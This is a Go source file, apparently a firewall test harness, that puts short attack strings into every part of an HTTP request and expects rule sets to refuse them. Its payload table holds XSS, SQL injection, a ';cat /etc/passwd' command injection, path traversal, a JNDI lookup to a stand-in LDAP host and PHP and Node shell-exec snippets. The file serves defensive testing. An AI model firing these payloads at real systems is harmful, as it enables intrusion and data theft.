package attack

import (
	"encoding/json"
	"encoding/xml"
	"net/http"
	"net/url"
	"strconv"
	"strings"
)

// Place is a part of a request that applications read.
type Place string

// The places. Each is read in another way, so that rules which look into one may be blind in the next.
const (
	InPath       Place = "the path"
	InQuery      Place = "a field of the query"
	InQueryName  Place = "a name in the query"
	InForm       Place = "a field of a form"
	InFormName   Place = "a name in a form"
	InJSON       Place = "a text of a JSON document"
	InJSONName   Place = "a name in a JSON document"
	InXML        Place = "a text of an XML document"
	InPart       Place = "a field beside an upload"
	InFileName   Place = "the name of an uploaded file"
	InCookie     Place = "a cookie"
	InCookieName Place = "the name of a cookie"
	InAgent      Place = "the browser's name"
	InReferrer   Place = "the page that led there"
	InHeader     Place = "another field of the head"
)

// text is an attack in a few words that many places can hold.
type text struct{ id, kind, cwe, words string }

var (
	script   = text{"script", "Cross-site scripting", "CWE-79", "<script>confirm(7)</script>"}
	union    = text{"union", "SQL injection", "CWE-89", "9' UNION SELECT pin,2 FROM vault_cards -- "}
	always   = text{"always", "SQL injection", "CWE-89", "9' or '1'='1"}
	shell    = text{"shell", "Command injection", "CWE-78", ";cat /etc/passwd"}
	climb    = text{"climb", "Path traversal", "CWE-22", "../../../../etc/passwd"}
	jndi     = text{"jndi", "Lookup in a logged text", "CWE-917", "${jndi:ldap://tw.example.invalid/a}"}
	php      = text{"php", "Upload of a program", "CWE-434", "<?php system('id'); ?>"}
	node     = text{"node", "Code injection", "CWE-94", "require('child_process').exec('id')"}
	ending   = text{"ending", "Upload of a program", "CWE-434", "holiday.php"}
	image    = text{"image", "Cross-site scripting", "CWE-79", "<img src=x onerror=confirm(7)>"} // without a slash, for paths
	anything = []text{script, union, always, shell, climb, jndi, php, node}
)

// held are the attacks that the rule set looks for in each place, at its lowest level. It does not look for all of them
// everywhere: a semicolon is nothing unusual in the name of a browser.
var held = []struct {
	place Place
	id    string
	texts []text
}{
	{InPath, "path", []text{image, php, node}},
	{InQuery, "query", anything}, {InQueryName, "query-name", anything},
	{InForm, "form", anything}, {InFormName, "form-name", anything},
	{InJSON, "json", anything}, {InJSONName, "json-name", anything}, {InXML, "xml", anything},
	{InPart, "part", anything}, {InFileName, "file-name", []text{ending, union, shell, climb, jndi, php, node}},
	{InCookie, "cookie", anything}, {InCookieName, "cookie-name", []text{script, union, shell, climb, jndi, php, node}},
	{InAgent, "agent", []text{script, union, climb, jndi, node}}, {InReferrer, "referrer", []text{script, union, jndi}},
	{InHeader, "header", []text{script, climb, jndi}},
}

// Places are attacks in every place of a request. name is what each is called where its place has a name: one that no
// application has says how rules look at any, one that an application has how they look at that.
func Places(name string) []Entry {
	all := make([]Entry, 0, len(held)*len(anything))
	for _, h := range held {
		all = append(all, h.place.Attacks("/", name)...)
	}
	return all
}

// Attacks are those that rules look for in this place, in a request to this path. Their Kind is the place.
func (p Place) Attacks(path, name string) []Entry {
	var all []Entry
	for _, h := range held {
		if h.place != p {
			continue
		}
		for _, t := range h.texts {
			all = append(all, Entry{
				ID: "place." + h.id + "." + t.id, What: t.kind + " in " + string(p), Kind: string(p), CWE: t.cwe, Why: "CRS at paranoia level 1",
				Expect: Refused, By: ByRules, Request: p.Request(path, name, t.words),
			})
		}
	}
	return all
}

// Request sends a text in this place, under this name where the place has one.
func (p Place) Request(path, name, words string) Request {
	switch p {
	case InPath:
		return get(strings.TrimSuffix(path, "/") + "/" + url.PathEscape(words))
	case InQuery:
		return get(path + "?" + encode([]string{name, words}))
	case InQueryName:
		return get(path + "?" + encode([]string{words, name}))
	case InForm:
		return form(name, words).to(http.MethodPost, path)
	case InFormName:
		return form(words, name).to(http.MethodPost, path)
	case InJSON:
		return document(nested(strings.Split(name, "."), words)).to(http.MethodPost, path)
	case InJSONName:
		return document(nested([]string{words}, name)).to(http.MethodPost, path)
	case InXML:
		return post("application/xml", "<note>"+escaped(words)+"</note>").to(http.MethodPost, path)
	case InPart:
		return parts("file", "holiday.jpg", "tw", name, words).to(http.MethodPost, path)
	case InFileName:
		return parts(name, words, "tw", "note", "tw").to(http.MethodPost, path)
	case InCookie:
		return get(path).with("Cookie", name+"="+words)
	case InCookieName:
		return get(path).with("Cookie", words+"="+name)
	case InAgent:
		return get(path).with("User-Agent", "Mozilla/5.0 "+words)
	case InReferrer:
		return get(path).with("Referer", "https://search.example/?q="+words)
	default:
		return get(path).with(http.CanonicalHeaderKey(name), words)
	}
}

// maxNested bounds how long a list is made so that it has a place that is asked for.
const maxNested = 100

// nested is a document with a text at the place that these names lead to. A number, or * for any, is a place in a list.
func nested(names []string, words string) string {
	if len(names) == 0 {
		return quoted(words)
	}
	within := nested(names[1:], words)
	n, err := strconv.ParseUint(names[0], 10, 32)
	if names[0] == "*" || err == nil && n < maxNested {
		return "[" + strings.Repeat(`"",`, int(n)) + within + "]"
	}
	return "{" + quoted(names[0]) + ":" + within + "}"
}

func quoted(s string) string {
	b, err := json.Marshal(s)
	if err != nil {
		panic(err) // a string always can be written
	}
	return string(b)
}

func escaped(s string) string {
	var b strings.Builder
	_ = xml.EscapeText(&b, []byte(s)) // a builder takes everything
	return b.String()
}

// parts posts one file in a form, under this name, and a field behind it.
func parts(name, file, content, beside, value string) Request {
	const boundary = "----tenward7d1f0c9a2b"
	quote := strings.NewReplacer(`"`, "%22", "\r", "%0D", "\n", "%0A") // as browsers write names
	return post("multipart/form-data; boundary="+boundary, "--"+boundary+"\r\n"+
		`Content-Disposition: form-data; name="`+quote.Replace(name)+`"; filename="`+quote.Replace(file)+`"`+"\r\n"+
		"Content-Type: image/jpeg\r\n\r\n"+content+"\r\n--"+boundary+"\r\n"+
		`Content-Disposition: form-data; name="`+quote.Replace(beside)+`"`+"\r\n\r\n"+value+"\r\n--"+boundary+"--\r\n")
}

// Long is a form with an upload of so many bytes, and an attack behind it.
func Long(path string, size int) Request {
	return parts("file", "holiday.jpg", strings.Repeat("tw", (size+1)/2), "note", script.words).to(http.MethodPost, path)
}
